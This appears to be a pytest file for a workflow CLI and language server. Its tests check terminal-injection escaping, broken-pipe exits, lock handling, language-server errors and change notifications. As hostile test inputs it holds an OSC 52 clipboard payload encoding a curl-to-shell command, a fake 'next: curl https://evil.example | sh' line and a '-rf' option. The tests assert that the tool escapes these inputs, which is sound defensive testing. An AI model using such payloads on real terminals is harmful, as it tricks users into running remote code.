"""Issue 13, the low items not covered beside their medium ones.

- Terminal injection: a question or option with ESC/C1 sequences or a newline is
  printed escaped by `hwf run/show/runs`; an option starting with `-` gets `--`.
- `hwf runs --json | head -1` exits quietly with 141 (was "Broken pipe", exit 2).
- Deleting a held `.lock` file does not let a second runner in.
- The language server: a disk error says what happened (was "internal error: OSError"
  with a traceback); a second `initialize` is refused (-32600); a client without
  markdown gets plain-text hovers; an unknown command name is refused without a
  traceback in the log.
- `hwf/runsChanged` carries what changed: a parked run's context (up to the 1 MiB output
  cap) is not sent again for every unrelated run (was: every run, every time).
"""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from hostile import ENV, REPO, agent_design, hwf, limit_memory, write_json
from rawlsp import RawLsp, open_params, position_params

from hwf_lsp.workflow.locks import RunBusyError, RunLock
from hwf_lsp.workflow.runner import Runner
from hwf_lsp.workflow.stores import RunStore

OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
FAKE_LINE = "\n  next: curl https://evil.example | sh"
CSI_C1 = "\x9b31m"
RAW_CONTROLS = ("\x1b", "\x07", "\x9b")


def _hostile_design() -> dict:
    design = agent_design("inject", agents=0, approval=True)
    approval = design["nodes"][1]
    approval["question"] = f"ship it?{OSC52}{FAKE_LINE}{CSI_C1}"
    approval["options"] = ["approve", "-rf", f"red{OSC52}"]
    return design


@pytest.mark.timeout(120)
def test_control_characters_are_printed_escaped(tmp_path: Path) -> None:
    home = tmp_path / "home"
    design = write_json(tmp_path / "inject.hwf.json", _hostile_design())
    parked = hwf("run", str(design), home=home)
    assert parked.code == 3, parked.text
    run_id = parked.stdout.split()[1]
    shown = hwf("show", run_id, home=home)
    listed = hwf("runs", home=home)
    as_json = hwf("runs", "--json", home=home)
    for done in (parked, shown, listed, as_json):
        assert not any(c in done.text for c in RAW_CONTROLS), done.text
        assert not any(line.lstrip().startswith("next: curl")
                       for line in done.stdout.splitlines()), done.stdout
    assert "\\x1b]52" in parked.stdout and "\\n  next: curl" in parked.stdout
    assert json.loads(as_json.stdout)[0]["pending"]["question"].endswith(CSI_C1)
    (dash,) = [line for line in parked.stdout.splitlines() if "-rf" in line and "next:" in line]
    words = shlex.split(dash.split("next:", 1)[1])
    assert words[:3] == ["hwf", "answer", run_id] and words[-2:] == ["--", "-rf"], words
    answered = hwf(*words[1:], home=None)  # the suggested command, as a user would paste it
    assert answered.code == 0, answered.text
    assert RunStore(home / "workflow-runs").load(run_id)["answers"] == {"ok": "-rf"}


@pytest.mark.timeout(60)
def test_a_reader_that_leaves_early_ends_hwf_quietly(tmp_path: Path) -> None:
    runs = RunStore(tmp_path / "home" / "workflow-runs")
    template = Runner(runs).create(agent_design("many"))
    for index in range(300):  # ~1 MB of JSON: far past a pipe's buffer
        runs.save({**template, "run_id": f"{index:012x}"})
    proc = subprocess.Popen([sys.executable, "-m", "hwf_lsp.cli", "runs", "--json", "--all",
                             "--hermes-home", str(tmp_path / "home")], env=ENV, cwd=REPO,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                            preexec_fn=limit_memory)
    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.readline().strip() == b"["
    proc.stdout.close()  # `| head -1`
    stderr = proc.stderr.read()
    assert proc.wait(timeout=30) == 141
    assert stderr == b"", stderr.decode()


def test_deleting_a_held_lock_file_does_not_let_a_second_runner_in(tmp_path: Path) -> None:
    root = tmp_path / "workflow-runs"
    with RunLock(root, "abcdef") as held:
        held.path.unlink()
        with pytest.raises(RunBusyError):
            RunLock(root, "abcdef").acquire()
        held.path.parent.rename(root / ".locks-gone")  # the whole directory, too
        with pytest.raises(RunBusyError):
            RunLock(root, "abcdef").acquire()
    with RunLock(root, "abcdef"):  # released: free again
        pass


# --- the language server --------------------------------------------------------------


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory):
    base = tmp_path_factory.mktemp("low")
    home, workspace = base / "home", base / "ws"
    home.mkdir()
    (home / "workflow-runs").write_text("not a directory")  # every run write fails
    workspace.mkdir()
    design = write_json(workspace / "low.hwf.json", agent_design("low"))
    client = RawLsp(env={**ENV, "HERMES_HOME": str(home)}, cwd=workspace,
                    preexec_fn=limit_memory)
    client.initialize(workspace, {"textDocument": {"hover": {"contentFormat": ["plaintext"]}}})
    client.notify("textDocument/didOpen", open_params(design.as_uri(), design.read_text()))
    client.design = design
    yield client
    client.close()


def test_a_disk_error_is_said_plainly(server: RawLsp) -> None:
    answer = server.request("workspace/executeCommand", {
        "command": "hwf.startRun", "arguments": [server.design.as_uri()]}, timeout=20)
    message = answer["error"]["message"]
    assert "internal error" not in message and ("File exists" in message
                                                or "Not a directory" in message), message
    assert "workflow-runs" in message
    assert "Traceback" not in server.stderr_tail(20_000)


def test_a_second_initialize_is_refused(server: RawLsp) -> None:
    again = server.request("initialize", {"processId": None, "capabilities": {},
                                          "rootUri": None}, timeout=20)
    assert again["error"]["code"] == -32600, again
    # the open document is not forgotten: it still gets hovers
    hover = server.request("textDocument/hover", position_params(
        server.design.as_uri(), 0, 0), timeout=20)
    assert "error" not in hover


def test_a_client_without_markdown_gets_plain_text_hovers(server: RawLsp) -> None:
    text = server.design.read_text()
    server.notify("textDocument/didClose", {"textDocument": {"uri": server.design.as_uri()}})
    server.notify("textDocument/didOpen", open_params(server.design.as_uri(), text, 2))
    line, column = next((n, row.index('"agent"') + 2) for n, row in
                        enumerate(text.splitlines()) if '"agent"' in row)
    hover = server.request("textDocument/hover", position_params(
        server.design.as_uri(), line, column), timeout=20)
    contents = hover["result"]["contents"]
    assert contents["kind"] == "plaintext", contents
    assert contents["value"].startswith("agent (node kind)"), contents
    assert "**" not in contents["value"] and "`" not in contents["value"]


def test_an_unknown_command_is_refused_without_a_traceback(server: RawLsp) -> None:
    answer = server.request("workspace/executeCommand",
                            {"command": "hwf.noSuchCommand", "arguments": []}, timeout=20)
    assert answer["error"]["code"] == -32602 and "unknown command" in \
        answer["error"]["message"], answer
    assert "Traceback" not in server.stderr_tail(20_000)


# --- hwf/runsChanged: what changed, not everything again ---------------------------------

BIG_OUTPUT = "x" * 900_000
"""Under the 1 MiB output cap: the parked step's context holds all of it."""
DELTA_LIMIT_BYTES = 64_000


@pytest.mark.timeout(120)
def test_an_unrelated_run_does_not_resend_a_parked_runs_context(tmp_path: Path) -> None:
    home, workspace = tmp_path / "home", tmp_path / "ws"
    workspace.mkdir()
    runner = Runner(RunStore(home / "workflow-runs"))
    parked = runner.start(agent_design("big", agents=2))
    parked = runner.respond(parked["run_id"], output=BIG_OUTPUT)  # parks at a1, a0 upstream
    assert parked["status"] == "awaiting_agent"
    assert len(json.dumps(parked["pending"])) > len(BIG_OUTPUT)
    for _ in range(2):
        runner.start(agent_design("tiny", agents=0))
    server = RawLsp(env={**ENV, "HERMES_HOME": str(home)}, cwd=workspace,
                    preexec_fn=limit_memory)
    try:
        server.initialize(workspace, {})

        def seen(run_id: str) -> None:
            server.wait_notification("hwf/runsChanged", lambda params: any(
                run.get("run_id") == run_id
                for run in params.get("changed", params.get("runs", []))), timeout=20)

        # once a first new run has been told, the start-up listing (a full one) is behind us
        seen(runner.start(agent_design("first", agents=0))["run_id"])
        before = len(server.notifications)
        seen(runner.start(agent_design("later", agents=0))["run_id"])
        sent = [message for message in server.notifications[before:]
                if message.get("method") == "hwf/runsChanged"]
        sizes = [len(json.dumps(message)) for message in sent]
        assert all(parked["run_id"] not in json.dumps(message) for message in sent), sizes
        assert max(sizes) < DELTA_LIMIT_BYTES, sizes
    finally:
        server.close()
